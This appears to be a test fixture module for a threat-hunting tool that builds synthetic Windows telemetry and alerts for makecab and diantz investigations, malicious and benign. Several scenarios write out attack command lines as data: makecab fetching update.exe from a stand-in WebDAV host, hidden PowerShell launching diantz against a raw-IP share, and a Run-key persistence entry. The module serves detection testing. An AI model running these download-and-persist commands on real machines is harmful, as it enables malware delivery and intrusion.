"""The investigation scenarios of the playbooks, each a hand-built store plus the alert seed."""

from __future__ import annotations

from dataclasses import dataclass

from cabhunt.model import Alert, CabinetRef, SourceRef
from tests.investigate.builder import MiniStore, alert_for, at, baseline, conn, dns, filecreate, proc

SYS32 = "C:\\Windows\\System32\\"
CAB_SHA = "ab" * 32
FLEET = ["WS01", "WS02", "WS03", "WS04", "WS05", "FS01", "BUILD01", "BUILD02"]


@dataclass
class Case:
    store: MiniStore
    alert: Alert


def webdav_chain() -> Case:
    """Office -> cmd -> makecab pulling from an Internet WebDAV share; extracted and executed."""
    s = MiniStore()
    baseline(s, FLEET)
    host, cab = "WS01", "C:\\Users\\alice\\AppData\\Local\\Temp\\update.cab"
    src = "\\\\files.evil-cdn.net@SSL\\DavWWWRoot\\tools\\update.exe"
    word = proc(host, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE /n invoice.docm",
                "{W}", 3000, t=-120)
    cmd = proc(host, SYS32 + "cmd.exe", 'cmd.exe /c "makecab ..."', "{C}", 3100, t=-2,
               parent={"guid": "{W}", "pid": 3000, "exe": word["process_executable"]})
    mk = proc(host, SYS32 + "makecab.exe", f"makecab.exe {src} {cab}", "{M}", 3200,
              parent={"guid": "{C}", "pid": 3100, "exe": cmd["process_executable"], "cmd": cmd["process_command_line"]},
              process_pe_original_file_name="makecab.exe", process_hash_sha256="11" * 32)
    uids = s.add(word, cmd, mk)
    s.add(
        {"ts": mk["ts"], "host_name": host, "event_provider": "sysmon", "event_code": 7, "event_category": "image_load",
         "process_entity_id": "{M}", "process_pid": 3200, "process_executable": mk["process_executable"],
         "dll_path": mk["process_executable"], "dll_signed": True, "dll_signature": "Microsoft Windows",
         "dll_signature_status": "Valid"},
        dns(host, "files.evil-cdn.net", "203.0.113.50;", t=0.3),
        proc(host, SYS32 + "rundll32.exe",
             "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie files.evil-cdn.net https://files.evil-cdn.net/DavWWWRoot/tools",
             "{R}", 3300, t=0.4),
        conn(host, SYS32 + "svchost.exe", 1200, "203.0.113.50", 443, t=0.5),
        {"ts": at(0.6), "host_name": "zeek-sensor", "event_provider": "zeek",
         "event_dataset": "zeek.ssl", "event_code": 0, "event_category": "tls", "source_ip": "10.1.2.3",
         "destination_ip": "203.0.113.50", "destination_port": 443, "tls_server_name": "files.evil-cdn.net"},
        filecreate(host, cab, "{M}", 3200, t=2, sha=CAB_SHA),
        proc(host, SYS32 + "expand.exe", f"expand.exe {cab} -F:* C:\\Users\\Public\\", "{E}", 3400, t=60,
             parent={"guid": "{C}", "pid": 3100, "exe": cmd["process_executable"]}),
        filecreate(host, "C:\\Users\\Public\\update.exe", "{E}", 3400, t=61, sha="cd" * 32, exe=SYS32 + "expand.exe"),
        proc(host, "C:\\Users\\Public\\update.exe", "C:\\Users\\Public\\update.exe -silent", "{X}", 3500, t=90,
             parent={"guid": "{C}", "pid": 3100, "exe": cmd["process_executable"]}),
        {"ts": at(95),
         "host_name": host, "event_provider": "sysmon", "event_code": 13, "event_category": "registry",
         "process_entity_id": "{X}", "process_pid": 3500, "process_executable": "C:\\Users\\Public\\update.exe",
         "registry_path": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
         "registry_value": "C:\\Users\\Public\\update.exe -silent"},
    )
    a = alert_for("makecab_download_cab", host, mk, [uids[2]],
                  sources=[SourceRef(src, "webdav", "files.evil-cdn.net", 443, False, "external", via="cmdline")],
                  cabinets=[CabinetRef(cab, False, True)])
    return Case(s, a)


def smb_raw_ip() -> Case:
    """PowerShell -> diantz reading \\\\198.51.100.7\\share; the read is System (PID 4) to 445."""
    s = MiniStore()
    baseline(s, FLEET)
    host, cab = "WS02", "C:\\Users\\Public\\p.cab"
    src = "\\\\198.51.100.7\\share\\payload.dll"
    ps = proc(host, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell -nop -w hidden", "{P}", 4000, t=-30,
              user="bob")
    dz = proc(host, SYS32 + "diantz.exe", f"diantz.exe {src} {cab}", "{D}", 4100, user="bob",
              parent={"guid": "{P}", "pid": 4000, "exe": ps["process_executable"], "cmd": ps["process_command_line"]},
              process_pe_original_file_name="diantz.exe")
    uids = s.add(ps, dz)
    s.add(conn(host, "System", 4, "198.51.100.7", 445, t=0.7, src_ip="10.1.2.4"),
          filecreate(host, cab, "{D}", 4100, t=1.5, sha=CAB_SHA, exe=SYS32 + "diantz.exe"))
    a = alert_for("diantz_download_cab", host, dz, [uids[1]],
                  sources=[SourceRef(src, "smb", "198.51.100.7", None, True, "external", via="cmdline")],
                  cabinets=[CabinetRef(cab, False, True)])
    return Case(s, a)


def internal_network() -> Case:
    """makecab's own EID 3 to an internal file server; server logs and net use confirm the read."""
    s = MiniStore()
    baseline(s, FLEET)
    host, cab = "WS03", "C:\\ProgramData\\pkg\\tool.cab"
    src = "\\\\FS01\\deploy\\tool.exe"
    cmd = proc(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "{C3}", 5000, t=-4000, user="carol")
    mk = proc(host, SYS32 + "makecab.exe", f"makecab.exe {src} {cab}", "{M3}", 5100, user="carol",
              parent={"guid": "{C3}", "pid": 5000, "exe": cmd["process_executable"]})
    netuse = proc(host, SYS32 + "net.exe", "net use Z: \\\\FS01\\deploy /persistent:no", "{N3}", 4900, t=-300,
                  user="carol", parent={"guid": "{C3}", "pid": 5000, "exe": cmd["process_executable"]})
    c3 = conn(host, SYS32 + "makecab.exe", 5100, "10.20.0.5", 445, t=0.4, guid="{M3}", src_ip="10.1.2.5",
              domain="FS01.corp.local")
    uids = s.add(cmd, mk, netuse, c3)
    s.add(dns(host, "FS01.corp.local", "::ffff:10.20.0.5;", t=0.2),
          {"ts": c3["ts"], "host_name": "FS01", "event_provider": "security", "event_code": 4624,
           "event_category": "logon", "logon_type": 3, "source_ip": "10.1.2.5", "user_name": "carol"},
          {"ts": c3["ts"], "host_name": "FS01", "event_provider": "security", "event_code": 5145,
           "event_category": "share", "source_ip": "10.1.2.5", "share_name": "\\\\*\\deploy",
           "share_relative_target": "tool.exe", "share_access": "ReadData", "user_name": "carol"},
          filecreate(host, cab, "{M3}", 5100, t=1.0, sha="ef" * 32),
          *[conn(h, "System", 4, "10.20.0.5", 445, t=-3600 * (i + 1), src_ip=f"10.1.3.{i}")
            for i, h in enumerate(("WS01", "WS02", "WS04", "WS05"))])
    a = alert_for("makecab_network", host, mk, [uids[3]],
                  sources=[SourceRef(src, "smb", "FS01", None, False, "internal", via="cmdline")],
                  cabinets=[CabinetRef(cab, False, True)],
                  destination={"ip": "10.20.0.5", "port": 445, "domain": "FS01.corp.local", "scope": "internal",
                               "ip_literal": False}, t=0.4)
    return Case(s, a)


def renamed_copy() -> Case:
    """A renamed diantz copy in the user's temp folder packing a file from an internal share."""
    s = MiniStore()
    baseline(s, FLEET)
    host, cab = "WS04", "C:\\Users\\Public\\notes.txt"
    exe = "C:\\Users\\dave\\AppData\\Local\\Temp\\cabtool.exe"
    src = "\\\\FS01\\it\\agent.exe"
    cmd = proc(host, SYS32 + "cmd.exe", "cmd.exe /c run.bat", "{C4}", 6000, t=-10, user="dave")
    rc = proc(host, exe, f"cabtool.exe {src} {cab}", "{K4}", 6100, user="dave",
              parent={"guid": "{C4}", "pid": 6000, "exe": cmd["process_executable"]},
              process_pe_original_file_name="diantz.exe", process_hash_sha256="99" * 32)
    uids = s.add(cmd, rc)
    a = alert_for("diantz_download_cab", host, rc, [uids[1]],
                  sources=[SourceRef(src, "smb", "FS01", None, False, "internal", via="cmdline")],
                  cabinets=[CabinetRef(cab, False, True)])
    return Case(s, a)


def build_server() -> Case:
    """CI agent -> msbuild -> cmd -> makecab /F driver.ddf with local sources, on a build host."""
    s = MiniStore()
    baseline(s, FLEET)
    host = "BUILD01"
    agent = proc(host, "C:\\agent\\bin\\Agent.Worker.exe", "Agent.Worker.exe spawnclient", "{A5}", 7000, t=-600,
                 user="svc_build")
    msb = proc(host, "C:\\Program Files\\Microsoft Visual Studio\\2022\\MSBuild\\Current\\Bin\\MSBuild.exe",
               "MSBuild.exe driver.proj /t:Package", "{B5}", 7100, t=-300, user="svc_build",
               parent={"guid": "{A5}", "pid": 7000, "exe": agent["process_executable"]})
    cmd = proc(host, SYS32 + "cmd.exe", "cmd.exe /c package.cmd", "{C5}", 7200, t=-5, user="svc_build",
               parent={"guid": "{B5}", "pid": 7100, "exe": msb["process_executable"]})
    mk = proc(host, SYS32 + "makecab.exe", "makecab.exe /F C:\\build\\pkg\\driver.ddf", "{M5}", 7300,
              user="svc_build", cwd="C:\\build\\pkg\\",
              parent={"guid": "{C5}", "pid": 7200, "exe": cmd["process_executable"]})
    uids = s.add(agent, msb, cmd, mk)
    history = [proc(h, SYS32 + "makecab.exe", "makecab.exe /F C:\\build\\pkg\\driver.ddf", f"{{H{h}{i}}}",
                    8000 + i, t=-86400 * (i + 1), user="svc_build") for h in ("BUILD01", "BUILD02") for i in range(5)]
    s.add(*history, filecreate(host, "C:\\build\\pkg\\disk1\\driver.cab", "{M5}", 7300, t=3, sha="12" * 32))
    a = alert_for("makecab_download_cab", host, mk, [uids[3]], sources=[],
                  cabinets=[CabinetRef("C:\\build\\pkg\\disk1\\driver.cab", False, False)],
                  directive_files=["C:\\build\\pkg\\driver.ddf"])
    return Case(s, a)


def cbs_rotation() -> Case:
    """Windows servicing (TiWorker) rotating CBS logs into a cabinet under C:\\Windows\\Logs\\CBS."""
    s = MiniStore()
    baseline(s, FLEET)
    host = "WS05"
    log = "C:\\Windows\\Logs\\CBS\\CbsPersist_20260302101504.log"
    cab = "C:\\Windows\\Logs\\CBS\\CbsPersist_20260302101504.cab"
    ti = proc(host, "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35\\TiWorker.exe",
              "TiWorker.exe -Embedding", "{T6}", 900, t=-3600, user="SYSTEM")
    mk = proc(host, SYS32 + "makecab.exe", f'makecab.exe "{log}" "{cab}"', "{M6}", 9100, user="SYSTEM",
              parent={"guid": "{T6}", "pid": 900, "exe": ti["process_executable"]}, cwd="C:\\Windows\\system32\\")
    uids = s.add(ti, mk)
    s.add(filecreate(host, cab, "{M6}", 9100, t=4, sha="34" * 32))
    a = alert_for("makecab_download_cab", host, mk, [uids[1]],
                  sources=[SourceRef(log, "local", None, None, False, "unknown", via="cmdline")],
                  cabinets=[CabinetRef(cab, False, False)])
    return Case(s, a)


def approved_share() -> Case:
    """An IT deployment job packaging from an approved intranet share (allowlisted)."""
    s = MiniStore()
    baseline(s, FLEET)
    host, cab = "WS02", "C:\\ProgramData\\Deploy\\agent.cab"
    src = "\\\\FS01\\approved\\agent.msi"
    ccm = proc(host, "C:\\Windows\\CCM\\CcmExec.exe", "CcmExec.exe", "{S7}", 1500, t=-900, user="SYSTEM")
    mk = proc(host, SYS32 + "makecab.exe", f"makecab.exe {src} {cab}", "{M7}", 1600, user="SYSTEM",
              parent={"guid": "{S7}", "pid": 1500, "exe": ccm["process_executable"]})
    uids = s.add(ccm, mk)
    s.add(conn(host, "System", 4, "10.20.0.5", 445, t=0.5, src_ip="10.1.2.4"),
          dns(host, "FS01", "10.20.0.5", t=0.2))
    a = alert_for("makecab_download_cab", host, mk, [uids[1]],
                  sources=[SourceRef(src, "smb", "FS01", None, False, "internal", via="cmdline")],
                  cabinets=[CabinetRef(cab, False, True)])
    return Case(s, a)


def remote_ddf() -> Case:
    """makecab /F on a DDF kept on a share; the DDF (collected) pulls from a raw-IP share."""
    s = MiniStore()
    baseline(s, FLEET)
    host = "WS03"
    ddf = "\\\\FS01\\pkgs\\stage.ddf"
    cmd = proc(host, SYS32 + "cmd.exe", "cmd.exe", "{C8}", 5500, t=-20, user="carol")
    mk = proc(host, SYS32 + "makecab.exe", f"makecab.exe /F {ddf}", "{M8}", 5600, user="carol",
              cwd="C:\\Users\\carol\\Downloads\\", parent={"guid": "{C8}", "pid": 5500, "exe": cmd["process_executable"]})
    uids = s.add(cmd, mk)
    a = alert_for("makecab_download_cab", host, mk, [uids[1]], sources=[],
                  cabinets=[], directive_files=[ddf])
    return Case(s, a)


REMOTE_DDF_TEXT = (
    ".Set CabinetNameTemplate=stage.cab\r\n"
    ".Set DiskDirectoryTemplate=C:\\Users\\carol\\Downloads\r\n"
    ".Set SourceDir=\\\\203.0.113.9\\tools\r\n"
    + "".join(f"tool{i}.exe\r\n" for i in range(12))
)
